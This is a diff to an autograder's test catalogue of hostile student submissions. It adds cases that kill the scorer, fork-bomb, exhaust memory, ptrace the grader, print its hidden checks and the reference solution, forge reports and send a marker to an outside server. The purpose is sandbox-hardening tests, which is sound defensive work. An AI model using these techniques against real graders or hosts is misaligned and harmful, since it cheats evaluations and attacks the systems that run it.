@@ -41,6 +41,11 @@ class Hostile:
     # Also graded without the sandbox (plain process mode, as on a laptop): only attacks that mode
     # protects against (it runs the code with the user's own rights, see grader/worker/sandbox.py).
     process_mode: bool = False
+    # Also graded in the Gradescope stand-in (tests/test_gradescope_standin.py): a container with
+    # Docker's default seccomp profile, where bubblewrap is refused.
+    gradescope: bool = False
+    # Text of the grader's files that must appear nowhere in what the student reads.
+    leaks: tuple[str, ...] = ()
 
 
 def _push(body: str) -> str:
@@ -71,7 +76,7 @@ HOSTILE: tuple[Hostile, ...] = (
                 grader.results.grade_checkpoint = lambda checkpoint, *a, **k: None
             except Exception:
                 pass
-            """, flagged=True, process_mode=True),
+            """, flagged=True, process_mode=True, gradescope=True),
     Hostile("pytest_control_flow", "Its methods raise pytest's skip and xfail outcomes, KeyboardInterrupt or "
             "SystemExit, so that a check is left out of the points.",
             at_import="""
@@ -118,15 +123,14 @@ HOSTILE: tuple[Hostile, ...] = (
             """),
     Hostile("report_rewrite_forked_child", "A double-forked child outlives the call and rewrites the reports later.",
             push="""
-            import os
+            import os, sys
             if os.fork() == 0:
                 os.setsid()
                 if os.fork() == 0:
-                    os.execv("/bin/sh", ["sh", "-c",
-                             "sleep {marker}.5; echo '{fake}' > {report_dir}/report.json"])
+                    os.execv(sys.executable, [sys.executable, "-c", '''import time; time.sleep(30); open("{report_dir}/report.json", "w").write('{fake}')''', "{marker}"])
                 os._exit(0)
             return repository_uri + ":" + tag
-            """, process_mode=True),
+            """, process_mode=True, gradescope=True),
     Hostile("edit_grader_files", "Empties, deletes and rewrites files of the grader and the solution.",
             at_import="""
             import os
@@ -140,7 +144,7 @@ HOSTILE: tuple[Hostile, ...] = (
                     os.remove(path)
                 except Exception:
                     pass
-            """, flagged=True),
+            """, flagged=True, gradescope=True),
     # --- the worker's resources -----------------------------------------------------------------
     Hostile("signal_handlers", "Ignores SIGTERM, SIGALRM and SIGINT, then loops forever.",
             at_import="""
@@ -200,7 +204,7 @@ HOSTILE: tuple[Hostile, ...] = (
             """,
             replace=((OPS, f"{OPS_CLASS}.register_image_classifier_task_definition",
                       "def register_image_classifier_task_definition(self, *a, **k):\n"
-                      "    return bytearray(64 * 1024 ** 3)\n"),)),
+                      "    return bytearray(64 * 1024 ** 3)\n"),), gradescope=True),
     Hostile("fork_bomb", "Forks without end.", push="""
             import os
             while True:
@@ -208,7 +212,7 @@ HOSTILE: tuple[Hostile, ...] = (
                     os.fork()
                 except OSError:
                     pass
-            """),
+            """, gradescope=True),
     Hostile("non_daemon_threads", "Starts threads that never end, then answers.", push="""
             import threading, time as _time
             for _ in range(5):
@@ -228,7 +232,7 @@ HOSTILE: tuple[Hostile, ...] = (
             os.environ["AWS_ACCESS_KEY_ID"] = "AKIASCORERINPROCESS0"
             os.environ["ECS_LAB_LANG"] = "en"
             os.chdir("/")
-            """),
+            """, gradescope=True),
     Hostile("patch_time_and_builtins", "Replaces time functions and builtins used by the grader.", at_import="""
             import builtins, json as _json
             time.sleep = lambda seconds: None
@@ -281,7 +285,7 @@ HOSTILE: tuple[Hostile, ...] = (
                                 "    report = yield\n    report.outcome = 'passed'\n    return report\n"),
                 "pytest.ini": "[pytest]\naddopts = -p no:grader.plugin -p no:timeout\n",
                 "json.py": "raise ImportError('json remplacé')\n",
-            }),
+            }, gradescope=True),
     Hostile("import_the_solution", "Imports the reference solution and the grader to copy their behaviour.",
             at_import="""
             try:
@@ -290,13 +294,13 @@ HOSTILE: tuple[Hostile, ...] = (
                 ImageClassifierOperations = _Solution
             except Exception:
                 pass
-            """, flagged=True, process_mode=True),
+            """, flagged=True, process_mode=True, gradescope=True),
     Hostile("read_the_solution", "Reads the solution's file and runs it.", at_import="""
             try:
                 exec(open("{project}/reference/image_classifier_operations.py").read())
             except Exception:
                 pass
-            """, flagged=True),
+            """, flagged=True, gradescope=True),
     Hostile("moto_admin_api", "Calls moto's own control API (reset, state manager) to upset the grader's scenarios.",
             base="reference", at_import="""
             import os, urllib.request
@@ -316,7 +320,117 @@ HOSTILE: tuple[Hostile, ...] = (
                       "    urllib.request.urlopen(urllib.request.Request(os.environ['AWS_ENDPOINT_URL'] + "
                       "'/moto-api/reset', data=b'{}'), timeout=2)\n"
                       "    return {'taskArn': task_arn, 'lastStatus': 'STOPPED'}\n"),),
-            loses=frozenset({"task_monitoring", "main_runs"})),
+            loses=frozenset({"task_monitoring", "main_runs"}), gradescope=True),
+    # --- where bubblewrap is refused (a Gradescope container, a hosted runner, Fargate) -----------
+    Hostile("kill_parent_double_fork", "Kills the process that forked it (its worker), after a double fork "
+            "into a new session whose child outlives everything and rewrites the reports.",
+            push="""
+            import os, signal, sys
+            if os.fork() == 0:
+                os.setsid()
+                if os.fork() == 0:
+                    os.execv(sys.executable, [sys.executable, "-c", '''import time; time.sleep(30); open("{report_dir}/report.json", "w").write('{fake}')''', "{marker}"])
+                os._exit(0)
+            os.kill(os.getppid(), signal.SIGKILL)
+            return repository_uri + ":" + tag
+            """, process_mode=True, gradescope=True),
+    Hostile("print_grader_files", "Reads the hidden checks, the catalogue and the autograder's scripts and "
+            "prints them into its own feedback.",
+            at_import="""
+            import glob, os
+            _seen = []
+            for pattern in ("{project}/checks/offline/*.py", "{project}/grader/catalogue.yaml",
+                            "{project}/grader/*.py", "/autograder/run_autograder", "/autograder/source/setup.sh",
+                            os.path.dirname(os.__file__) + "/site-packages/grader/catalogue.yaml",
+                            "/autograder/venv/lib/python3*/site-packages/grader/catalogue.yaml",
+                            "/autograder/venv/lib/python3*/site-packages/checks/offline/*.py"):
+                for path in glob.glob(pattern) or [pattern]:
+                    try:
+                        _seen.append(open(path).read()[:2000])
+                    except Exception as error:
+                        _seen.append(repr(error))
+            _LEAK = "\\n".join(_seen)
+            """,
+            push="""
+            print(_LEAK)
+            raise RuntimeError(_LEAK[:3000])
+            """, flagged=True, process_mode=True, gradescope=True,
+            leaks=("def test_", "points:", "grader.lms.autograder")),
+    Hostile("allocate_beyond_memory", "Allocates more memory than the container has (600 MiB at once, then "
+            "more in steps), touching every page.",
+            push="""
+            big = bytearray(600 * 1024 * 1024)
+            for i in range(0, len(big), 4096):
+                big[i] = 1
+            hoard = []
+            while True:
+                chunk = bytearray(32 * 1024 * 1024)
+                for i in range(0, len(chunk), 4096):
+                    chunk[i] = 1
+                hoard.append(chunk)
+            """, process_mode=True, gradescope=True),
+    Hostile("connect_outside", "Connects to a server outside the grader (the test's own, on the host's Docker "
+            "bridge or loopback) with socket.create_connection, a raw socket and urllib, and sends it a marker.",
+            at_import="""
+            import socket, urllib.request
+            _host, _port = "{outside}".rsplit(":", 1)
+            try:
+                socket.create_connection((_host, int(_port)), timeout=2).sendall(b"LEAK-{marker}")
+            except Exception:
+                pass
+            try:
+                _raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+                _raw.settimeout(2)
+                _raw.connect((_host, int(_port)))
+                _raw.sendall(b"LEAK-{marker}")
+            except Exception:
+                pass
+            try:
+                urllib.request.urlopen("http://{outside}/LEAK-{marker}", timeout=2).read()
+            except Exception:
+                pass
+            """, process_mode=True, gradescope=True),
+    Hostile("ptrace_the_scorer", "Attaches to the scorer (its worker's parent) with ptrace, which would stop it, "
+            "and reads its memory with process_vm_readv.",
+            at_import="""
+            import ctypes, os
+            _libc = ctypes.CDLL(None, use_errno=True)
+            def _parent(pid):
+                return int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
+            try:
+                _scorer = _parent(os.getppid())
+                if _scorer > 1:
+                    _libc.ptrace(16, _scorer, 0, 0)  # PTRACE_ATTACH
+                    _buffer = ctypes.create_string_buffer(4096)
+                    _local = (ctypes.c_void_p * 2)(ctypes.cast(_buffer, ctypes.c_void_p), 4096)
+                    _libc.process_vm_readv(_scorer, _local, 1, _local, 1, 0)
+            except Exception:
+                pass
+            """, process_mode=True, gradescope=True),
+    # Not graded in process mode on the project's own machine: as root, without a user of its own,
+    # kill(-1) is held back only by the filters this run tests (the containers' runs test them).
+    Hostile("kill_the_scorer", "Kills every process it may (kill(-1)), then the scorer (its worker's parent) and "
+            "its process group, by pid and through a pidfd.",
+            at_import="""
+            import os, signal
+            def _parent(pid):
+                return int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
+            try:
+                os.kill(-1, signal.SIGKILL)
+            except Exception:
+                pass
+            try:
+                _scorer = _parent(os.getppid())
+                if _scorer > 1:
+                    for _target in (_scorer, -os.getpgid(_scorer)):
+                        try:
+                            os.kill(_target, signal.SIGKILL)
+                        except Exception:
+                            pass
+                    signal.pidfd_send_signal(os.pidfd_open(_scorer), signal.SIGKILL)
+            except Exception:
+                pass
+            """, gradescope=True),
     Hostile("forge_worker_answers", "Writes fake answers on the worker's control socket.", push="""
             import json, os, socket, struct
             fake = json.dumps({{"op": "answer", "status": "returned", "value": repository_uri + ":" + tag,
@@ -327,22 +441,68 @@ HOSTILE: tuple[Hostile, ...] = (
                 except OSError:
                     pass
             return repository_uri + ":" + tag
-            """),
+            """, gradescope=True),
 )
+
+
+class OutsideServer:
+    """A TCP server outside the grader, recording every byte it receives (connect_outside must send none)."""
+
+    def __init__(self, host: str) -> None:
+        import socket
+        import threading
+
+        self._data = bytearray()
+        self._lock = threading.Lock()
+        self._listener = socket.create_server((host, 0))
+        self.address = f"{host}:{self._listener.getsockname()[1]}"
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        import threading
+
+        while True:
+            try:
+                connection, _ = self._listener.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._read, args=(connection,), daemon=True).start()
+
+    def _read(self, connection) -> None:
+        with connection:
+            connection.settimeout(5)
+            try:
+                while chunk := connection.recv(65536):
+                    with self._lock:
+                        self._data += chunk
+            except OSError:
+                pass
+
+    def received(self) -> bytes:
+        with self._lock:
+            return bytes(self._data)
+
+    def __enter__(self) -> "OutsideServer":
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._listener.close()
 
 
 def by_name(name: str) -> Hostile:
     return next(h for h in HOSTILE if h.name == name)
 
 
-def _fill(code: str, *, report_dir: Path, marker: int) -> str:
-    return textwrap.dedent(code).strip("\n").format(report_dir=report_dir, project=ROOT, marker=marker,
-                                                    fake=FAKE_REPORT)
+def _fill(code: str, *, report_dir: Path, marker: int, project: Path = ROOT, outside: str = "127.0.0.1:9") -> str:
+    return textwrap.dedent(code).strip("\n").format(report_dir=report_dir, project=project, marker=marker,
+                                                    fake=FAKE_REPORT, outside=outside)
 
 
-def materialise(hostile: Hostile, directory: Path, *, report_dir: Path, marker: int) -> Path:
+def materialise(hostile: Hostile, directory: Path, *, report_dir: Path, marker: int, project: Path = ROOT,
+                outside: str = "127.0.0.1:9") -> Path:
     """Write `hostile` into `directory` (created); returns it."""
     directory.mkdir(parents=True, exist_ok=True)
+    places = {"report_dir": report_dir, "marker": marker, "project": project, "outside": outside}
     base = REFERENCE if hostile.base == "reference" else TEMPLATE
     for name in (OPS, S3_IO):
         shutil.copyfile(base / name, directory / name)
@@ -354,12 +514,12 @@ def materialise(hostile: Hostile, directory: Path, *, report_dir: Path, marker: 
     text = ops.read_text(encoding="utf-8")
     if hostile.push:
         text = ReplaceDef(OPS, f"{OPS_CLASS}.push_image_to_ecr",
-                          _push(_fill(hostile.push, report_dir=report_dir, marker=marker))).apply(text)
+                          _push(_fill(hostile.push, **places))).apply(text)
     if hostile.at_import:
         anchor = "from botocore.exceptions import BotoCoreError, ClientError\n"
-        attack = _fill(hostile.at_import, report_dir=report_dir, marker=marker)
+        attack = _fill(hostile.at_import, **places)
         text = text.replace(anchor, anchor + "\n# --- attack ---\n" + attack + "\n# --- end of the attack ---\n", 1)
     ops.write_text(text, encoding="utf-8")
     for name, content in hostile.files.items():
-        (directory / name).write_text(_fill(content, report_dir=report_dir, marker=marker), encoding="utf-8")
+        (directory / name).write_text(_fill(content, **places), encoding="utf-8")
     return directory
